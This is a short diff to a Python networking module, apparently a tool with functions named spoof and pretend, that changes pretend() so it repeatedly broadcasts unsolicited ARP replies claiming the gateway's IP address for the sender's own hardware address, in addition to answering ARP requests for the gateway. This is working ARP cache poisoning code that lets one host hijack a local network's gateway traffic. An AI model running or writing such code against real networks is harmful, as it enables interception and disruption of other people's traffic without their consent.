@@ -56,16 +56,17 @@ def spoof(client: str, gateway: str, port: str) -> dict[str, Any]:
 
 
 def pretend(gateway: str, seconds: str) -> dict[str, Any]:
-    """Claim the gateway's address against everybody who asks for it, for so long."""
+    """Claim the gateway's address against everybody, asked or not, for so long."""
     print("ready", flush=True)
     claims, end = 0, time.monotonic() + float(seconds)
     with _wire() as wire:
         own = wire.getsockname()[4]
         while time.monotonic() < end:
-            for frame in _heard(wire):
+            wire.send(_arp(2, own, gateway, b"\xff" * 6, gateway))
+            for frame in _heard(wire, 0.005):
                 if _is_question(frame, gateway):
                     wire.send(_arp(2, own, gateway, frame[6:12], socket.inet_ntoa(frame[28:32])))
-                    claims += 1
+            claims += 1
     return {"claims": claims}
 
 
